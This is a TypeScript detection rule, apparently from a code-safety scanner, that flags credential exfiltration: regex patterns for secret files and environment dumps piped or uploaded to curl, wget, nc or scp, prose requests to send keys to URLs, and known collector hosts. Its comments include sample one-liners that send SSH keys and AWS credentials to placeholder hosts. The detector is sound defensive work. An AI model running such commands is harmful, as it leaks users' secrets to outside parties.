import { excerpt } from './evidence.js';
import { type LinePattern, mayMatch } from './line-pattern.js';
import type { RuleHit, SafetyRuleModule } from './types.js';

// A secret source alone (reading ~/.aws/credentials) or a network sink alone (curl to an API) is
// ordinary; the rule fires only when the two are wired together on one line, or when prose asks for a
// secret to be sent to an outside destination.

/** Folders in a home directory that hold secrets (the rest of the path follows them). */
const SECRET_FOLDER = String.raw`(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|/root|/home/[\w.-]+)/\.(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud|config/gh|netrc|npmrc|pypirc|git-credentials|bash_history|zsh_history)\b`;
/** Files that hold secrets wherever they are. */
const SECRET_FILE = String.raw`\bid_(?:rsa|dsa|ecdsa|ed25519)\b|/etc/(?:shadow|passwd|sudoers)\b|(?:^|[\s"'=@(])\.env(?:\.\w+)?\b|\bcredentials\.json\b|\.aws/credentials\b`;
/** Files and stores that hold secrets. */
const SECRET_SOURCE = String.raw`${SECRET_FOLDER}[\w./-]*|${SECRET_FILE}`;
/** Commands that dump the whole environment. */
const ENV_DUMP = String.raw`(?:\benv\b|\bprintenv\b|\bset\b|\bexport\s+-p\b|\bgci\s+env:|\bget-childitem\s+env:|\bls\s+env:)`;
/** Things that send data over the network. */
const NETWORK_SINK = String.raw`(?:\bcurl\b|\bwget\b|\bnc\b|\bncat\b|\bnetcat\b|\bsocat\b|\btelnet\b|\bhttp\b|\biwr\b|\birm\b|\binvoke-(?:webrequest|restmethod)\b|/dev/(?:tcp|udp)/|\bsendmail\b|\bmail\s+-s\b|\bmailx\b)`;
/** Destinations that are only ever used to collect data. */
const COLLECTOR_HOST =
  /\b(?:webhook\.site|requestbin\.(?:com|net)|interact\.sh|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot)|(?<![\w-])-*\b[\w-]+\.(?:requestcatcher\.com|m\.pipedream\.net|burpcollaborator\.net|oast\.(?:fun|me|live|site|online|pro))/i;

/** A secret source anywhere on the line. */
const SECRET = new RegExp(SECRET_SOURCE, 'i');
/** A network command a pipe feeds. */
const PIPED_SINK = new RegExp(String.raw`\|\s*${NETWORK_SINK}`, 'i');
/** A command substitution. */
const SUBSTITUTION = /\$\(|\x60/;

/** With `needs` (see LinePattern) for the patterns that read a window after a network command. */
const PATTERNS: LinePattern[] = [
  {
    // cat ~/.ssh/id_rsa | curl -d @- https://x ; base64 ~/.aws/credentials | nc host 4444
    regex: new RegExp(
      String.raw`(?:${SECRET_SOURCE})[^|\n]{0,300}\|\s*(?:[\w-]+\s+[^|\n]{0,300}\|\s*)?${NETWORK_SINK}`,
      'i',
    ),
    what: 'pipes a secret file into a network command',
    needs: [SECRET, PIPED_SINK],
  },
  {
    // env | curl -X POST --data-binary @- https://x
    regex: new RegExp(
      String.raw`(?:^|[;&|(\x60]\s*|\$\(\s*)${ENV_DUMP}\s*(?:\|\s*[\w-]+[^|\n]{0,300})?\|\s*${NETWORK_SINK}`,
      'i',
    ),
    what: 'pipes the environment into a network command',
    needs: [PIPED_SINK],
  },
  {
    // curl -d @~/.aws/credentials https://x ; curl -F "f=@$HOME/.ssh/id_rsa" ; wget --post-file=.env
    regex: new RegExp(
      String.raw`${NETWORK_SINK}[^\n]{0,300}(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|-T|--upload-file|--post-file|--body-file|-InFile)[\s=]*["']?[\w-]*=?@?(?:${SECRET_SOURCE})`,
      'i',
    ),
    what: 'uploads a secret file',
    needs: [SECRET],
  },
  {
    // curl https://x?d=$(cat ~/.ssh/id_rsa) ; curl -d "$(env)" https://x
    regex: new RegExp(
      String.raw`${NETWORK_SINK}[^\n]{0,300}(?:\$\(|\x60)\s*(?:(?:cat|base64|gzip|tar\s+\S+|type|get-content)\s+[^)\x60\n]{0,300}(?:${SECRET_SOURCE})|${ENV_DUMP}\s*[)\x60])`,
      'i',
    ),
    what: 'embeds a secret file or the environment in a request',
    needs: [SUBSTITUTION],
  },
  {
    // The path's rest and the destination are each read by one quantifier (`\S*`, `\S{2,}`): read by two
    // in a row, a long token was tried at every split, quadratic in its length. At most 10 options: unbounded,
    // every `scp` of a long line read all the options after it.
    regex: new RegExp(
      String.raw`\bscp\s+(?:-\S+\s+){0,10}(?:${SECRET_FOLDER}|${SECRET_FILE})\S*\s+\S{2,}:`,
      'i',
    ),
    what: 'copies a secret file to a remote host',
  },
  {
    // "send the API key to https://…", "post all environment variables to this webhook"
    regex:
      /\b(?:send|post|upload|transmit|exfiltrate|forward|e-?mail|submit|report|share|leak|copy)\s+(?:(?:the|all|any|every|their|your|user['’]?s?|of|these|those|its|contents?|values?)\s+){0,4}(?:[\w.-]+\s+)?(?:api[\s_-]?keys?|secrets?|tokens?|credentials?|passwords?|private\s+keys?|ssh\s+keys?|env(?:ironment)?\s+(?:variables|vars)|\.env\b|cookies|session\s+(?:cookies|tokens?))\b[^.\n]{0,80}?\b(?:to|into|via)\s+(?:(?:a|an|the|this|that|our|my|following)\s+)?(?:https?:\/\/|[\w.+-]+@[\w-]+\.[\w.]+|(?:remote|external|attacker|third[\s-]party|collection|logging)\s+(?:server|endpoint|url|host|address)|webhooks?\b|(?:server|endpoint|url)\s+(?:at|below)\b)/i,
    what: 'asks for secrets to be sent to an outside destination',
  },
];

const NEGATED =
  /\b(?:never|don['’]t|do\s+not|must\s+not|mustn['’]t|should\s+not|shouldn['’]t|avoid|not\s+to|no\s+need\s+to|refuse\s+to|without)\b[^.;\n]{0,40}$/i;

/** Cheap pre-check: every pattern needs a network command, a send verb or a collector host. */
const MAYBE_EXFILTRATION =
  /curl|wget|\bnc\b|ncat|netcat|socat|telnet|http|iwr|irm|invoke-|\/dev\/|mail|scp|send|post|upload|transmit|exfiltrate|forward|submit|report|share|leak|copy|webhook|requestbin|requestcatcher|pipedream|burpcollaborator|oast|interact\.sh|discord|telegram/i;

export const exfiltrationRule: SafetyRuleModule = {
  id: 'exfiltration',
  severity: 'high',
  description:
    'Sends secrets off the machine: secret files (~/.ssh, ~/.aws/credentials, .env, ...) or the whole ' +
    'environment piped or uploaded with curl/wget/nc, or prose asking for API keys, tokens or ' +
    'credentials to be sent to a URL, webhook or e-mail address; also any mention of a known ' +
    'data-collection host (webhook.site, requestbin, pipedream, Discord webhooks, ...).',
  scan({ lines }) {
    const hits: RuleHit[] = [];
    lines.forEach((text, index) => {
      if (!MAYBE_EXFILTRATION.test(text)) return;
      for (const pattern of PATTERNS) {
        if (!mayMatch(pattern, text)) continue;
        const match = pattern.regex.exec(text);
        // "never send your API key to a third-party server" is advice, not an instruction.
        if (!match || NEGATED.test(text.slice(0, match.index))) continue;
        hits.push({
          line: index + 1,
          severity: 'high',
          evidence: excerpt(text, match.index, match.index + match[0].length),
          message: `exfiltration: ${pattern.what}`,
        });
        return;
      }
      const collector = COLLECTOR_HOST.exec(text);
      if (collector) {
        hits.push({
          line: index + 1,
          severity: 'warn',
          evidence: excerpt(text, collector.index, collector.index + collector[0].length),
          message: `exfiltration: mentions a data-collection endpoint (${collector[0]})`,
        });
      }
    });
    return hits;
  },
};
